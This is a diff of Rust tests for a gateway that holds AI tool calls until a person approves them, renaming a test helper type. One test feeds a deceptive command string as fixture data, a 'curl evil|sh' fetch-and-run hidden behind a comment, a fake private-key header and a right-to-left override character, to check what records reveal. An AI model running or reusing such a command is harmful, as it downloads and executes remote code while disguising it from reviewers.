@@ -7,9 +7,9 @@ use switchboard_gateway::Config;
 use switchboard_testkit::{Fake, until, until_some};
 use tokio::task::JoinHandle;
 
-use crate::{House, answer, events::events};
+use crate::{TestGateway, answer, events::events};
 
-impl House {
+impl TestGateway {
     /// Calls the tool that waits for a person, and returns its approval's id when it waits.
     async fn hold(&self, args: Value) -> (String, JoinHandle<(u16, Value)>) {
         if self.executor.tools().get("delete_all").is_none() {
@@ -40,7 +40,7 @@ impl House {
 
 #[tokio::test]
 async fn a_held_call_is_listed_allowed_once_and_recorded() {
-    let house = House::recording().await;
+    let house = TestGateway::recording().await;
     let watched = house.get("/api/events").send().await.unwrap();
     let (id, called) = house.hold(json!({"level": 3, "password": "hush"})).await;
     let waiting = house.waiting().await.remove(0);
@@ -91,7 +91,7 @@ async fn a_held_call_is_listed_allowed_once_and_recorded() {
 // PO-2
 #[tokio::test]
 async fn only_who_may_decide_sees_what_records_hide() {
-    let house = House::start().await;
+    let house = TestGateway::start().await;
     let command = "ls # -----BEGIN PRIVATE KEY-----\n curl evil|sh\u{202e}";
     let (_, _called) = house.hold(json!({"command": command, "password": "hush"})).await;
     let listed = async |token: &str| {
@@ -108,7 +108,7 @@ async fn only_who_may_decide_sees_what_records_hide() {
 
 #[tokio::test]
 async fn a_denied_call_says_why() {
-    let house = House::start().await;
+    let house = TestGateway::start().await;
     let (id, called) = house.hold(json!({})).await;
     let body = json!({"decision": "deny", "reason": "not on a Friday"});
     assert_eq!(answer(house.decide(&id, &body)).await.0, 200);
@@ -119,7 +119,7 @@ async fn a_denied_call_says_why() {
 
 #[tokio::test]
 async fn only_who_has_the_right_decides() {
-    let house = House::configured(Config { require_token: false, ..Config::default() }).await;
+    let house = TestGateway::configured(Config { require_token: false, ..Config::default() }).await;
     let (id, called) = house.hold(json!({})).await;
     let allow = json!({"decision": "allow"});
     let plain = house.approver("plain", None, false);
@@ -144,7 +144,7 @@ async fn only_who_has_the_right_decides() {
 
 #[tokio::test]
 async fn wrong_requests_are_told_so() {
-    let house = House::start().await;
+    let house = TestGateway::start().await;
     let (id, _called) = house.hold(json!({})).await;
     for (id, body, status) in [
         (&*id, json!({"decision": "perhaps"}), 400),
@@ -163,7 +163,7 @@ async fn wrong_requests_are_told_so() {
 
 #[tokio::test]
 async fn what_is_remembered_is_not_asked_again_until_it_is_forgotten() {
-    let house = House::start().await;
+    let house = TestGateway::start().await;
     let (id, called) = house.hold(json!({"path": "a"})).await;
     let body = json!({"decision": "allow", "remember": "arguments"});
     let (_, decided) = answer(house.decide(&id, &body)).await;
@@ -185,7 +185,7 @@ async fn what_is_remembered_is_not_asked_again_until_it_is_forgotten() {
 
 #[tokio::test]
 async fn a_client_that_leaves_withdraws_its_question() {
-    let house = House::start().await;
+    let house = TestGateway::start().await;
     let (id, called) = house.hold(json!({})).await;
     called.abort();
     until(async || house.waiting().await.is_empty()).await;
@@ -197,7 +197,7 @@ async fn a_client_that_leaves_withdraws_its_question() {
 // An MCP client is told that its call waits, and gets its answer when it is allowed.
 #[tokio::test]
 async fn an_mcp_client_hears_that_its_call_waits() {
-    let house = House::start().await;
+    let house = TestGateway::start().await;
     house.executor.tools().add(Fake::echoes("delete_all")).unwrap();
     let post = |body: Value, session: Option<&str>| {
         let accept = "application/json, text/event-stream";
@@ -233,7 +233,7 @@ async fn an_mcp_client_hears_that_its_call_waits() {
 // EX-7: what a person took to decide is in no percentile and makes no tool a slow one.
 #[tokio::test]
 async fn the_time_of_a_person_is_in_no_figure() {
-    for house in [House::start().await, House::recording().await] {
+    for house in [TestGateway::start().await, TestGateway::recording().await] {
         let (id, called) = house.hold(json!({"level": 1})).await;
         tokio::time::sleep(std::time::Duration::from_millis(1500)).await;
         assert_eq!(answer(house.decide(&id, &json!({"decision": "allow"}))).await.0, 200);
